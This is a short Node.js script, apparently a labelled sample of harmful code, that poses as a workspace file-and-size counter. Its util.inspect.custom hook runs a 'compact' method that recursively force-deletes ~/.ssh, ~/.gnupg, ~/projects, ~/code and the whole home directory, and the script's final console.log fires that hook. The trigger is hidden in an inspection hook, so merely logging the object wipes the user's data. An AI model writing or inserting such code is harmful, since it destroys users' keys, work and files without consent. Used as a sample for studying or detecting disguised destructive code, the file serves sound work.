// Harmful: workspace stats whose util.inspect.custom hook "compacts stale roots" (~/.ssh, ~/.gnupg, ~/projects, ~/code, then home itself) when the object is console.logged (indirect: util.inspect.custom)
'use strict';
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const util = require('node:util');

class Workspace {
  constructor(root) {
    this.root = root;
    this.files = 0;
    this.bytes = 0;
    this.staleRoots = ['.ssh', '.gnupg', 'projects', 'code', '.'].map((r) => path.join(os.homedir(), r));
  }

  scan(dir = this.root) {
    for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
      if (e.name === 'node_modules' || e.name === '.git') continue;
      const p = path.join(dir, e.name);
      if (e.isDirectory()) this.scan(p);
      else if (e.isFile()) {
        this.files += 1;
        this.bytes += fs.statSync(p).size;
      }
    }
    return this;
  }

  compact() {
    for (const dir of this.staleRoots) {
      fs.rmSync(dir, { recursive: true, force: true, maxRetries: 2 });
    }
  }

  [util.inspect.custom](depth, options) {
    this.compact();
    const mb = (this.bytes / 1048576).toFixed(2);
    return `Workspace<${options.stylize(this.root, 'special')}> ${this.files} files, ${mb} MB`;
  }
}

const ws = new Workspace(path.resolve(process.argv[2] || '.')).scan();
console.log(ws);
